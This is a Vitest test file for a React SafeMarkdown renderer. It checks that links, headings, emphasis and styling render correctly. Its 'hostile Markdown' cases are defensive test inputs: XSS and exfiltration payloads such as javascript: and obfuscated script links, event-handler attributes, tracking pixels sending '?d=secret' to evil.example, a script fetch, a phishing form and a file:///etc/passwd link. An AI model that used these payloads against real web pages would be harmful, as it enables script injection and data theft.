import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SafeMarkdown } from "@/components/report/safe-markdown";

const render = (markdown: string) => renderToStaticMarkup(<SafeMarkdown>{markdown}</SafeMarkdown>);

describe("hostile Markdown", () => {
  it.each([
    ["a remote picture", "![pixel](https://evil.example/p.gif?d=secret)"],
    ["a picture by reference", "![pixel][1]\n\n[1]: https://evil.example/p.gif"],
    ["a picture inside a link that goes nowhere", "[![x](https://evil.example/p.gif)](javascript:alert(1))"],
    ["an inlined picture", "![x](data:image/svg+xml;base64,PHN2Zy8+)"],
    ["a script", "Before <script>fetch('https://evil.example')</script> after"],
    ["a raw picture", '<img src="https://evil.example/p.gif" onerror="alert(1)">'],
    ["a raw frame", '<iframe src="https://evil.example/"></iframe>'],
    ["a raw link", '<a href="https://evil.example/" onclick="alert(1)">x</a>'],
    ["a raw style", "<style>@import 'https://evil.example/x.css'</style>"],
    ["a form", '<form action="https://evil.example/"><button>Log in</button></form>'],
    ["a script address", "[x](javascript:alert(1))"],
    ["a disguised script address", "[x](JaVaScRiPt&colon;alert(1))"],
    ["a script address with a tab", "[x](java&#x09;script:alert(1))"],
    ["a data address", "[x](data:text/html;base64,PHNjcmlwdD4=)"],
    ["a vbscript address", "[x](vbscript:msgbox(1))"],
    ["a file address", "<file:///etc/passwd>"],
    ["a mail address", "<someone@evil.example>"],
    ["an address of the portal itself", "[x](/api/logout)"],
    ["an address without a scheme", "[x](//evil.example/)"],
    ["an address that hides its host", "[x](https://portal.example@evil.example/)"],
    ["a link by reference to a script", "[x][1]\n\n[1]: javascript:alert(1)"],
  ])("%s leaves nothing a browser would load or follow", (_, markdown) => {
    expect(render(markdown)).not.toMatch(/<(?!\/?(?:div|p|br)\b)|<[^>]*\s(?:on\w+|href|src)=/i);
  });

  it("keeps a refused link's text", () => {
    expect(render("Read [the terms](javascript:alert(1)) first")).toContain("Read the terms first");
  });

  it("shows HTML as text, so that a sentence about a tag keeps its word", () => {
    expect(render("Give the page one <h1> heading")).toContain("Give the page one &lt;h1&gt; heading");
  });

  it("keeps a title's quotes inside text", () => {
    expect(render('[x](https://a.example/ "\\" onmouseover=alert(1) \\"")')).not.toContain("onmouseover");
  });
});

describe("welcome Markdown", () => {
  it("links to the web in a new tab, without vouching for it", () => {
    expect(render("[Docs](https://docs.example/a?b=c)")).toMatch(
      /<a href="https:\/\/docs\.example\/a\?b=c" rel="nofollow noopener" target="_blank"[^>]*>Docs<\/a>/,
    );
  });

  it("draws headings below the report's own", () => {
    const html = render("# One\n\n### Three\n\n#### Four");
    expect(html.match(/<h\d/g)).toEqual(["<h4", "<h4", "<h5"]);
  });

  it("sets asides apart from sentences, and proposals apart from both", () => {
    const html = render("*Searched: ten pages*\n\nA *plain* sentence\n\n**Better:** say it\n\n**Where:** here");
    const looks = [...html.matchAll(/<p(?: class="([^"]*)")?>/g)].map(([, look = ""]) => look);
    expect(looks).toEqual([
      expect.stringContaining("text-muted-foreground"),
      "",
      expect.stringContaining("bg-accent"),
      "",
    ]);
  });

  it("draws emphasis, lists, quotes and code", () => {
    const html = render("**Bold** and *soft*\n\n- one\n- two\n\n> quoted\n\n`code`");
    expect(html).toContain("<strong>Bold</strong>");
    expect(html).toMatch(/<em[^>]*>soft<\/em>/);
    expect(html.match(/<li/g)).toHaveLength(2);
    expect(html).toContain("<blockquote");
    expect(html).toContain("<code");
  });
});
